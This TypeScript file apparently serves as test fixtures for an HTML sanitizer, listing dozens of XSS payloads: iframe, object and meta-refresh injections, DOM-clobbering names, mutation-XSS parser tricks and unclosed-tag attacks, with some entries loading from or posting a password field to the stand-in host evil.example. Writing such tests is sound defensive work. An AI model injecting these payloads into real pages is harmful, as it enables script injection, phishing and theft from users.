// Elements that bring other documents, change what the page is, or take over names that scripts use.
import { payloads } from './payload.ts'

export const embeddingPayloads = payloads({
  'frame of a script': '<iframe src="javascript:parent.__xss=1"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  'frame of a data URL': '<iframe src="data:text/html,<script>window.__xss=1</script>"></iframe>',
  'frame that loads': '<iframe onload=window.__xss=1></iframe>',
  'frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'object of a script': '<object data="javascript:window.__xss=1"></object>',
  'object of a document': '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  'embedded document': '<embed src="data:text/html,<script>window.__xss=1</script>">',
  'portal and fenced frame': '<fencedframe src="https://evil.example/"></fencedframe>',
  'form that sends elsewhere':
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  'form with a script': '<form action="javascript:window.__xss=1"><button autofocus>x</button></form>',
  'button with an action':
    '<form id=f></form><button form=f formaction="javascript:window.__xss=1">x</button>',
  'field that is an image': '<form><input type=image src=x onerror=window.__xss=1></form>',
  isindex: '<isindex type=image src=1 onerror=window.__xss=1>',
  'base of all links': '<base href="https://evil.example/"><a href="x">x</a>',
  'base that is a script': '<base href="javascript:/window.__xss=1/">',
  'refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  'refresh to a document':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>window.__xss=1</script>">',
  'policy of another': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'style from elsewhere': '<link rel=stylesheet href="https://evil.example/x.css">',
  'style sheet of an import': '<style>@import "https://evil.example/x.css";</style>',
  'style with an image': '<p style="background:url(https://evil.example/x)">x</p>',
  'style that covers all':
    '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9999">x</a>',
  'module loaded ahead': '<link rel=modulepreload href="https://evil.example/x.js">',
  'page fetched ahead': '<link rel=prefetch href="https://evil.example/x">',
  'manifest of another': '<link rel=manifest href="data:application/json,{}">',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=window.__xss=1></template></div>',
  template: '<template><img src=x onerror=window.__xss=1></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  'names that hide functions':
    '<form id=document name=cookie><input id=getElementById name=createElement></form><img name=querySelector>',
  'names that hide globals':
    '<a id=location href="javascript:window.__xss=1"></a><a id=__NOTARIUM__ name=config href="https://evil.example/"></a>',
  'names that hide the root':
    '<div id=root></div><div id=app></div><main id=__proto__ name=constructor></main>',
  'name that is a prototype': '<form id=x><input name=attributes><input name=parentNode></form>',
})

/** They live on what a parser makes of the whole, so each has a page of its own. */
export const mutationPayloads = payloads(
  {
    'comment in a style': '<svg><style><!--</style><img src=x onerror=window.__xss=1>--></style></svg>',
    'math in a table':
      '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.__xss=1>">',
    'form in a form':
      '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__xss=1>',
    'closing tag in an attribute': '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
    'title in an attribute': '<title><a title="</title><img src=x onerror=window.__xss=1>"></a></title>',
    'textarea in an attribute':
      '<textarea><p title="</textarea><img src=x onerror=window.__xss=1>"></textarea>',
    'noembed in an attribute': '<noembed><p title="</noembed><img src=x onerror=window.__xss=1>"></noembed>',
    'xmp in an attribute': '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>"></xmp>',
    'annotation in math':
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.__xss=1></style></annotation-xml></math>',
    'select that is left':
      '<select><option><style></option></select><img src=x onerror=window.__xss=1></style>',
    'section of characters': '<svg><![CDATA[><img src=x onerror=window.__xss=1>]]></svg>',
    'comment that ends early': '<!--> <img src=x onerror=window.__xss=1> -->',
    'comment that ends oddly': '<!-- --!> <img src=x onerror=window.__xss=1> -->',
    'instruction to nobody': '<?xml version="1.0"?><img src=x onerror=window.__xss=1>',
    'declaration of nothing': '<!doctype x [<!entity e "<img src=x onerror=window.__xss=1>">]>&e;',
    'tag in a tag': '<<img src=x onerror=window.__xss=1>//',
    'attribute without an end': '<img alt="` <script>window.__xss=1</script>"`>',
  },
  { alone: true },
)

export const openPayloads = payloads(
  {
    'comment without an end': '<!-- <img src=x onerror=window.__xss=1>',
    'style without an end': '<style><img src=x onerror=window.__xss=1>',
    'attribute that takes the rest': '<img src=x onerror=window.__xss=1 alt="',
    'tag without an end': '<img src=x onerror=window.__xss=1 ',
    'text area without an end': '<textarea><img src=x onerror=window.__xss=1>',
    'everything plain': '<plaintext><img src=x onerror=window.__xss=1>',
    'fence without an end': '```html\n<img src=x onerror=window.__xss=1>\n',
    'fence with a payload for a language': '```"><img src=x onerror=window.__xss=1>\ncode\n',
  },
  { alone: true },
)
